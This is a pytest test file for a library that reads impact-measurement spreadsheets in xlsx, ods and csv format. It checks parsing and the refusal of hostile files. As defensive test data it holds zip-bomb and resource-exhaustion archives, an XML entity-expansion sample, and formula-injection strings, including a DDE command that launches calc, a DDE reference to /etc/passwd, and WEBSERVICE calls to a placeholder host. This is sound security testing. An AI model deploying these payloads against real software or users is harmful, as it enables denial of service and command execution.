"""Hypotheses in the files of spreadsheets: what is read as it is stored, and what is refused before it grows."""

from __future__ import annotations

import io
import socket
import struct
import subprocess
import sys
import zipfile
from collections.abc import Callable, Iterable, Mapping
from datetime import date
from decimal import Decimal
from functools import cache
from typing import Any

import odfdo
import openpyxl
import pytest
from hypothesis import given, strategies as st

from impactlib.domain.refusal import SheetError
from impactlib.domain.spreadsheet import Problem, Sheet, write_csv
from impactlib.views.render import say, translation
from impactlib.workbooks import read_file
from tests.conftest import examples

HEADINGS = ["Hypothèse", "Mesure", "Unité", "Valeur de départ", "Cible", "Échéance"]


def saved(book: openpyxl.Workbook) -> bytes:
    content = io.BytesIO()
    book.save(content)
    return content.getvalue()


def xlsx(rows: Iterable[list[Any]], name: str = "Mesures") -> openpyxl.Workbook:
    book = openpyxl.Workbook()
    book.active.title = name
    for row in [HEADINGS, *rows]:
        book.active.append(row)
    return book


def ods(*tables: tuple[str, list[list[Any]]]) -> bytes:
    document = odfdo.Document("spreadsheet")
    document.body.clear()
    for name, rows in tables:
        table = odfdo.Table(name)
        table.set_values(rows)
        document.body.append(table)
    content = io.BytesIO()
    document.save(content)
    return content.getvalue()


def said(sheet: Sheet) -> list[str]:
    return [say(one, "en") for one in sheet.decided]


def problems(sheet: Sheet) -> list[str]:
    return [f"{problem.row} {problem.column}" for problem in sheet.problems]


def figures(sheet: Sheet) -> list[tuple[int, str, str, str, str]]:
    return [(number, row.unit, row.baseline, row.target, row.target_date) for number, row in sheet.rows]


# What is stored ------------------------------------------------------------------------------------


def test_numbers_dates_and_merged_cells_of_a_workbook_are_read_as_they_are_stored() -> None:
    book = xlsx(
        [
            ["Les bacs partent à l’heure", "Retard médian", "minutes", 12.5, 0.1 + 0.2, date(2026, 12, 31)],
            [None, "Bacs annulés", None, 0.3, 0.125, 46388],
            [None, "Passagers", "passagers", 1250000, "1,5 million", "3 mars 2027"],
            ["Les bacs coûtent moins", "Coût par trajet", None, 1234.5, 1000, None],
        ]
    )
    page = book.active
    page.merge_cells("A2:A4")
    page["D3"].number_format, page["E3"].number_format = "0%", "0.0%"
    page["D5"].number_format = '#,##0.00\\ "€"'
    sheet = read_file(saved(book))
    assert figures(sheet) == [
        (2, "minutes", "12.5", "0.3", "2026-12-31"),
        (3, "%", "30", "12.5", "2027-01-01"),
        (4, "passagers", "1250000", "1500000", "2027-03-03"),
        (5, "€", "1234.5", "1000", ""),
    ]
    assert [len(group) for group in sheet.hypotheses] == [3, 1]
    assert sheet.problems == ()


def test_dates_are_those_of_the_workbooks_own_calendar() -> None:
    book = xlsx([["A", "m", "", 1, 2, date(2027, 6, 5)]])
    book.epoch = openpyxl.utils.datetime.CALENDAR_MAC_1904
    assert figures(read_file(saved(book)))[0][-1] == "2027-06-05"


def test_what_a_workbook_does_not_hold_is_told() -> None:
    book = xlsx(
        [
            ["A", "m", "", "=1+1", "#REF!", 2027],
            ["B", "n", "", date(2026, 5, 3), 0.5, "T3 2026"],
            ["C", "o", "%", -0.15, 3, 12],
        ]
    )
    page = book.active
    page["E3"].number_format, page["D4"].number_format = "[h]:mm", "0%"
    sheet = read_file(saved(book))
    assert problems(sheet) == [
        *("2 Valeur de départ", "2 Cible", "2 Échéance", "3 Valeur de départ", "3 Cible", "3 Échéance"),
        *("4 Valeur de départ", "4 Échéance"),
    ]
    assert "holds no value" in say(sheet.problems[0], "en") and "shows an error" in say(sheet.problems[1], "en")
    assert "a date here" in say(sheet.problems[3], "en") and "an hour" in say(sheet.problems[4], "en")
    assert figures(sheet)[-1] == (4, "%", "", "3", "")


def test_a_title_and_a_section_merged_over_the_columns_are_told() -> None:
    book = openpyxl.Workbook()
    page = book.active
    page.append(["Bacs du fleuve"])
    page.append(HEADINGS)
    page.append(["Accueil du public"])
    page.append(["Les bacs partent à l’heure", "Retard", "minutes", 12, 8, None])
    page.append(["TOTAL", None, None, 12, 8, None])
    for row in (1, 3):
        page.merge_cells(start_row=row, end_row=row, start_column=1, end_column=6)
    sheet = read_file(saved(book))
    assert figures(sheet) == [(4, "minutes", "12", "8", "")]
    assert problems(sheet) == ["3 Hypothèse", "5 Hypothèse"]


def test_an_open_document_is_read_likewise() -> None:
    rows: list[list[Any]] = [
        HEADINGS,
        ["Les bacs partent à l’heure", "Retard", "minutes", Decimal("12.5"), 8, date(2026, 12, 31)],
        [None, "Passagers", "passagers", "1,5 million", 2_000_000, None],
        [],
        ["Les bacs coûtent moins", "Coût", "€", 12, 9, None],
    ]
    sheet = read_file(ods(("Mesures", rows)))
    assert figures(sheet) == [
        (2, "minutes", "12.5", "8", "2026-12-31"),
        (3, "passagers", "1500000", "2000000", ""),
        (5, "€", "12", "9", ""),
    ]
    assert [len(group) for group in sheet.hypotheses] == [2, 1]


def document(rows: str) -> bytes:
    """An open document whose only table has these rows."""
    spaces = (
        'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
        'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
        'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
    )
    content = (
        f'<office:document-content {spaces}><table:table table:name="A">{rows}</table:table></office:document-content>'
    )
    return archive({"content.xml": content})


def archive(parts: Mapping[str, str | bytes]) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as file:
        for name, part in parts.items():
            file.writestr(name, part)
    return content.getvalue()


def row(*cells: str, repeated: int = 1) -> str:
    return f'<table:table-row table:number-rows-repeated="{repeated}">{"".join(cells)}</table:table-row>'


def cell(text: str, more: str = "") -> str:
    return f"<table:table-cell {more}><text:p>{text}</text:p></table:table-cell>"


def test_repeated_and_covered_cells_of_an_open_document() -> None:
    blank = '<table:table-cell table:number-columns-repeated="16000"/>'
    content = document(
        row(cell("Hypothèse"), cell("Mesure"), cell("Cible"))
        + row(cell("Les bacs", 'table:number-rows-spanned="2"'), cell("Retard"), cell("8"), blank)
        + row("<table:covered-table-cell/>", cell("Attente"), cell("3"))
        + row(blank, repeated=100_000)
        + row(
            cell("Deux<text:line-break/>lignes"),
            cell("Coût<office:annotation><text:p>note</text:p></office:annotation>"),
            cell("0,5 €", 'office:value-type="currency" office:value="0.5" office:currency="EUR"'),
        )
        + row(blank, repeated=900_000)
    )
    sheet = read_file(content)
    assert [(number, each.statement, each.metric, each.target) for number, each in sheet.rows] == [
        (2, "Les bacs", "Retard", "8"),
        (3, "Les bacs", "Attente", "3"),
        (100_004, "Deux\nlignes", "Coût", "0.5"),
    ]


# Several sheets ------------------------------------------------------------------------------------


def several() -> openpyxl.Workbook:
    book = openpyxl.Workbook()
    book.active.title = "Lisez-moi"
    book.active["A1"] = "Comment remplir la source"
    for name, metric in (("Mesures", "Retard"), ("Idées", "Attente")):
        page = book.create_sheet(name)
        page.append(["Hypothèse", "Mesure", "Cible"] if name == "Mesures" else ["Mesure", "Humeur"])
        page.append(["Les bacs", metric, 8] if name == "Mesures" else [metric, "bonne"])
    return book


def test_of_several_sheets_the_one_whose_headings_are_known_is_read_and_another_may_be_chosen() -> None:
    content = saved(several())
    sheet = read_file(content)
    assert [each.metric for _, each in sheet.rows] == ["Retard"]
    assert said(sheet) == ["The sheet “Mesures” was read, one of Lisez-moi, Mesures, Idées."]
    assert (sheet.sheet, sheet.sheets) == ("Mesures", ("Lisez-moi", "Mesures", "Idées"))
    assert [each.metric for _, each in read_file(content, "idees").rows] == ["Attente"]
    with pytest.raises(SheetError, match="no such sheet: this file has Lisez-moi, Mesures, Idées"):
        read_file(content, "Autres")


def test_a_hidden_sheet_is_read_only_where_no_other_is_as_good() -> None:
    book = several()
    book["Mesures"].sheet_state = "hidden"
    assert read_file(saved(book)).sheet == "Mesures"
    page = book.create_sheet("Copie")
    page.append(["Hypothèse", "Mesure", "Cible"])
    page.append(["Les bacs", "Retard", 9])
    assert read_file(saved(book)).sheet == "Copie"


def test_a_large_sheet_beside_the_one_that_is_wanted_does_no_harm() -> None:
    book = several()
    page = book.create_sheet("Données", 0)
    for at in range(3_000):
        page.append([at, at])
    assert read_file(saved(book)).sheet == "Mesures"
    tables: list[tuple[str, list[list[Any]]]] = [
        ("Données", [[at] for at in range(1, 2_500)]),
        ("Mesures", [["Mesure", "Cible"], ["Retard", 8]]),
    ]
    assert read_file(ods(*tables)).sheet == "Mesures"


# Refusals ------------------------------------------------------------------------------------------


def workbook(sheet: str, shared: str = "") -> bytes:
    """The least workbook that holds such a sheet and such texts."""
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
    sheets = f'<Relationship Id="s" Type="{kind}worksheet" Target="s.xml"/>'
    texts = f'<Relationship Id="t" Type="{kind}sharedStrings" Target="t.xml"/>'
    return archive(
        {
            "[Content_Types].xml": "<Types/>",
            "_rels/.rels": f'<r><Relationship Id="b" Type="{kind}officeDocument" Target="b.xml"/></r>',
            "_rels/b.xml.rels": f"<r>{sheets}{texts}</r>",
            "b.xml": '<workbook xmlns:r="r"><sheets><sheet name="A" r:id="s"/></sheets></workbook>',
            "s.xml": f"<worksheet>{sheet}</worksheet>",
            "t.xml": f"<sst>{shared}</sst>",
        }
    )


MAIN = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def with_parts(content: bytes, parts: Mapping[str, str]) -> bytes:
    """An archive in which some parts are others."""
    with zipfile.ZipFile(io.BytesIO(content)) as whole:
        kept = {name: whole.read(name) for name in whole.namelist()}
    return archive({**kept, **parts})


def in_excel(sheet: str, shared: str = "") -> bytes:
    """A whole .xlsx, of which only the sheet and its shared texts are hostile."""
    parts = {"xl/worksheets/sheet1.xml": f"<worksheet {MAIN}><sheetData>{sheet}</sheetData></worksheet>"}
    if shared:
        parts["xl/sharedStrings.xml"] = f"<sst {MAIN}>{shared}</sst>"
    return with_parts(saved(xlsx([["Les bacs", "Retard", "min", 12, 8, None]])), parts)


def in_calc(rows: str) -> bytes:
    """A whole .ods, of which only the rows are hostile."""
    with zipfile.ZipFile(io.BytesIO(document(rows))) as made:
        content = made.read("content.xml").decode()
    return with_parts(ods(("A", [["Mesure"], ["Retard"]])), {"content.xml": content})


def lying(content: bytes) -> bytes:
    """An archive whose list of parts says that the largest of them is empty."""
    with zipfile.ZipFile(io.BytesIO(content)) as whole:
        largest = max(whole.infolist(), key=lambda part: part.file_size)
    return content.replace(struct.pack("<I", largest.file_size), struct.pack("<I", 10))


CORNERS = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
LAST = '<table:table-cell table:number-columns-repeated="16383"/>' + cell("Cible")


def long_text() -> str:
    return f'<row><c t="inlineStr"><is><t>{"x" * 100_000_000}</t></is></c></row>'


HOSTILE: Mapping[str, Callable[[], bytes]] = {
    "xlsx: a million empty rows": lambda: in_excel("<row/>" * 1_000_000),
    "xlsx: a million empty cells": lambda: in_excel(f"<row>{'<c/>' * 1_000_000}</row>"),
    "xlsx: a long text": lambda: in_excel(long_text()),
    "xlsx: a long text that says it is short": lambda: lying(in_excel(long_text())),
    "xlsx: a million texts": lambda: in_excel('<row><c t="s"><v>0</v></c></row>', "<si><t>x</t></si>" * 1_000_000),
    "xlsx: two cells far apart": lambda: in_excel(CORNERS),
    "xlsx: a million merged cells": lambda: in_excel('</sheetData><mergeCell ref="A1:XFD1048576"/>' * 400_000),
    "ods: a million rows": lambda: in_calc(row("<table:table-cell/>") * 500_000),
    "ods: a row a million times": lambda: in_calc(row(cell("Mesure"), repeated=1_000_000)),
    "ods: a cell 16,000 times": lambda: in_calc(row(cell("Mesure", 'table:number-columns-repeated="16000"'))),
    "ods: two cells far apart": lambda: in_calc(row(cell("Mesure")) + row("", repeated=1_048_574) + row(LAST)),
    "ods: a long text": lambda: in_calc(row(cell("x" * 100_000_000))),
    "ods: a million spaces a million times": lambda: in_calc(row(cell('<text:s text:c="1000000"/>') * 100_000)),
    "twenty thousand parts": lambda: archive({str(at): "" for at in range(18_000)}),
    "csv: a million cells": lambda: b"a;" * 1_000_000,
    "csv: a million rows": lambda: b"\n" * 2_000_000 + b"a",
    "csv: a million rows of cells": lambda: b"Mesure;Cible\n" + b"a;1\n" * 500_000,
    "csv: two million quotation marks": lambda: b'"' * 2_000_000,
}
"""Archives of a few kilobytes that hold more than any table, and other things that grow; made when they are read."""


MEASURED = """
import resource, sys, time
from impactlib.domain.refusal import SheetError
from impactlib.workbooks import read_file
content = sys.stdin.buffer.read()
read_file(b"Mesure;Cible\\nRetard;3\\n")
before, begun = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss, time.process_time()
try:
    print("read", read_file(content).rows)
except SheetError as error:
    print("refused", error.message)
print(time.process_time() - begun, (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024)
"""


@pytest.mark.process
@pytest.mark.parametrize("name", HOSTILE)
def test_what_would_grow_is_refused_in_words_within_a_second_and_50_megabytes(name: str) -> None:
    # A process of its own, which the system ends should it take what it must not.
    limited = ["prlimit", "--as=1000000000", "--cpu=20", sys.executable, "-c", MEASURED]
    made = subprocess.run(limited, input=HOSTILE[name](), capture_output=True, check=False)
    *said, figures = made.stdout.decode().splitlines()
    seconds, megabytes = map(float, figures.split())
    what, _, words = said[0].partition(" ")
    assert said == ["read ()"] or (what == "refused" and translation("fr").gettext(words) != words), said
    assert seconds < 1 and megabytes < 50, (seconds, megabytes)


@pytest.mark.parametrize(
    "content",
    [
        b"PK\x03\x04 and nothing else",
        saved(xlsx([]))[:-200],
        archive({"word/document.xml": "<w/>"}),
        workbook("<row><c>"),
        archive({"content.xml": '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><x>&b;</x>'}),
        archive({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}),
    ],
    ids=["cut", "cut at its end", "a letter", "broken XML", "entities", "no sheet"],
)
def test_what_is_no_workbook_is_refused_in_words(content: bytes) -> None:
    with pytest.raises(SheetError) as refused:
        read_file(content)
    assert translation("fr").gettext(refused.value.message) != refused.value.message


@cache
def whole_workbooks() -> list[bytes]:
    """An .xlsx and an .ods, made once: they tell the second in which they were made."""
    rows: list[list[Any]] = [HEADINGS, ["Les bacs", "Retard", "minutes", 12.5, "3 M", date(2027, 6, 5)]]
    return [saved(xlsx(rows[1:])), ods(("Mesures", rows))]


@examples(60)
@given(st.data())
def test_a_workbook_with_any_damage_is_read_or_refused(data: st.DataObject) -> None:
    content = data.draw(st.sampled_from(whole_workbooks()))
    with zipfile.ZipFile(io.BytesIO(content)) as whole:
        parts = {name: whole.read(name) for name in whole.namelist()}
    name = data.draw(st.sampled_from(sorted(parts)))
    part = parts[name]
    at = data.draw(st.integers(0, len(part)))
    more = data.draw(st.binary(max_size=4) | st.sampled_from([b"<c/>", b"-1", b"9999999999", b"nan", b"<v>", b"&#0;"]))
    parts[name] = part[:at] + more + part[at + data.draw(st.integers(0, 20)) :]
    damaged = archive(parts)
    cut = data.draw(st.integers(4, len(damaged)))
    for each in (damaged, damaged[:cut], damaged[:cut] + more + damaged[cut:]):
        try:
            read_file(each)
        except SheetError:
            continue


def test_a_formula_is_read_by_its_stored_value_and_no_link_is_followed() -> None:
    content = workbook(
        '<sheetData><row><c t="str"><v>Mesure</v></c><c t="str"><v>Cible</v></c><c t="str"><v>Source</v></c></row>'
        '<row><c t="str"><f>A1</f><v>Retard</v></c><c><f>[1]Ailleurs!A1*2</f><v>8.5</v></c>'
        '<c t="str"><f>""</f><v></v></c></row><row><c t="str"><v>Attente</v></c><c><f>NOW()</f></c></row></sheetData>'
    )
    sheet = read_file(content)
    assert [(each.metric, each.target) for _, each in sheet.rows] == [("Retard", "8.5"), ("Attente", "")]
    assert problems(sheet) == ["3 Cible"]


CALLING_OUT = (
    'WEBSERVICE("http://example.invalid/?"&amp;A1)',
    'HYPERLINK("http://example.invalid/","8")',
    "[1]Ailleurs!A1",
    "cmd|' /C calc'!A0",
    'DDE("soffice";"/etc/passwd";"A1")',
    'IMPORTXML("http://example.invalid/";"//a")',
)
"""Formulas that ask another program, another file or the network for what they show."""


@pytest.mark.parametrize("formula", CALLING_OUT)
def test_a_formula_that_calls_out_is_read_by_its_stored_value_or_told(formula: str, monkeypatch: Any) -> None:
    def refuses(*_: object, **__: object) -> None:
        raise AssertionError("something was opened or fetched")

    plain = formula.replace("&amp;", "&")
    computed = f'table:formula="of:={formula.replace(chr(34), "&quot;")}"'
    book = xlsx([["Les bacs", f"={plain}", "min", f"={plain}", 8, None]])
    book.active["C2"].hyperlink = "http://example.invalid/"
    told = document(
        row(cell("Mesure"), cell("Cible"), cell("Source"))
        + row(
            cell("Retard"),
            cell("8.5", f'{computed} office:value-type="float" office:value="8.5"'),
            f"<table:table-cell {computed}/>",
        )
    )
    stored = workbook(
        '<sheetData><row><c t="str"><v>Mesure</v></c><c t="str"><v>Cible</v></c></row>'
        f'<row><c t="str"><f>{formula}</f><v>={formula}</v></c><c><f>{formula}</f><v>8.5</v></c></row></sheetData>'
    )
    link = {"xl/externalLinks/externalLink1.xml": "<externalLink/>"}
    contents = with_parts(saved(book), link), told, stored
    monkeypatch.setattr(socket, "socket", refuses)
    monkeypatch.setattr(subprocess, "Popen", refuses)
    monkeypatch.setattr("builtins.open", refuses)
    empty, calc, excel = map(read_file, contents)
    assert problems(empty) == ["2 Mesure", "2 Valeur de départ"]
    assert [(each.metric, each.target, each.source) for _, each in calc.rows] == [("Retard", "8.5", "")]
    assert problems(calc) == ["2 Source"]
    # A text that looks like a formula stays a text, and leaves as one.
    assert [(each.metric, each.target) for _, each in excel.rows] == [(f"={plain}", "8.5")]
    assert f'"\'={plain}"'.replace('"', "") in write_csv(["Mesure"], [[f"={plain}"]]).decode().replace('"', "")


def test_a_part_that_is_packed_in_another_way_is_refused() -> None:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_LZMA) as file:
        file.writestr("content.xml", "<x/>")
    with pytest.raises(SheetError, match="damaged or protected"):
        read_file(content.getvalue())


def test_a_sheet_whose_rows_stand_whole_in_one_cell_is_refused_saying_that() -> None:
    book = openpyxl.Workbook()
    for line in ("Hypothèse;Mesure;Cible", "Les bacs partent;Retard;5"):
        book.active.append([line])
    with pytest.raises(SheetError, match="whole in its first cell"):
        read_file(saved(book))


def test_a_csv_is_read_by_the_same_door() -> None:
    content = write_csv(["Mesure", "Cible"], [["Retard", "beaucoup"]])
    sheet = read_file(content)
    assert sheet.problems == (
        Problem(2, "Cible", "This is not a number: write it as 12.5, without words.", "beaucoup"),
    )


# Shapes, as workbooks hold them ----------------------------------------------------------------------


def table(rows: list[list[Any]], merged: Iterable[str] = (), formats: Mapping[str, str] | None = None) -> Sheet:
    """What is read of a workbook with such rows, merged cells and formats."""
    book = openpyxl.Workbook()
    for each in rows:
        book.active.append(each)
    for place, number_format in (formats or {}).items():
        book.active[place].number_format = number_format
    for cells in merged:
        book.active.merge_cells(cells)
    return read_file(saved(book))


def test_headings_merged_over_two_rows_of_a_workbook() -> None:
    rows: list[list[Any]] = [
        ["Plan de mesure"],
        [],
        ["Hypothèse", "Mesure", "Situation de départ", None, "Cible", None],
        [None, None, "Valeur", "Date", "Valeur", "Échéance"],
        ["Les quais sont sûrs", "Chutes", 0.12, date(2026, 1, 15), 0.05, date(2026, 12, 31)],
        [None, "Blessés", 4, date(2026, 1, 15), 1, date(2026, 12, 31)],
    ]
    merged = ("A1:F1", "A3:A4", "B3:B4", "C3:D3", "E3:F3", "A5:A6")
    sheet = table(rows, merged, {"C5": "0%", "E5": "0%"})
    assert figures(sheet) == [(5, "%", "12", "5", "2026-12-31"), (6, "", "4", "1", "2026-12-31")]
    assert {(row.statement, row.baseline_date) for _, row in sheet.rows} == {("Les quais sont sûrs", "2026-01-15")}
    assert sheet.problems == ()


def test_headings_merged_over_two_rows_of_an_open_document() -> None:
    covered, two = "<table:covered-table-cell/>", 'table:number-rows-spanned="2"'
    percentage = 'office:value-type="percentage" office:value="0.3"'
    sheet = read_file(
        document(
            row(
                *(cell("Statement", two), cell("Metric", two)),
                *(cell("Baseline", 'table:number-columns-spanned="2"'), covered, cell("Target")),
            )
            + row(covered, covered, cell("Value"), cell("Date"), cell("Value"))
            + row(
                *(cell("Boats leave on time"), cell("Late boats"), cell("12 %")),
                *(cell("x", 'office:value-type="date" office:date-value="2026-02-01"'), cell("30 %", percentage)),
            )
        )
    )
    assert figures(sheet) == [(3, "%", "12", "30", "")] and sheet.problems == ()
    assert sheet.rows[0][1].baseline_date == "2026-02-01"


def test_a_list_of_figures_in_a_workbook() -> None:
    rows: list[list[Any]] = [
        ["indicateur", "valeur", "unite_mesure", "est_cible", "date"],
        ["Bacs à l’heure", 0.8, None, False, date(2025, 12, 31)],
        ["Bacs à l’heure", 0.95, None, True, date(2026, 12, 31)],
    ]
    assert figures(table(rows, formats={"B2": "0 %", "B3": "0 %"})) == [(2, "%", "80", "95", "2026-12-31")]


def test_metrics_side_by_side_in_a_workbook() -> None:
    rows: list[list[Any]] = [
        ["Hypothesis", "Metric 1", "Target 1", "Metric 2", "Target 2"],
        ["Fewer missed boats", "Missed boats", 3, "Complaints", 0.1],
    ]
    assert figures(table(rows, formats={"E2": "0.0%"})) == [(2, "", "", "3", ""), (2, "%", "", "10", "")]


def test_units_in_the_formats_of_a_workbook() -> None:
    rows: list[list[Any]] = [["Mesure", "Cible"], ["Attente", 12.5], ["Coût", 1250]]
    sheet = table(rows, formats={"B2": '0.0" min"', "B3": "#,##0 [$€-40C]"})
    assert figures(sheet) == [(2, "", "", "12.5", ""), (3, "€", "", "1250", "")]
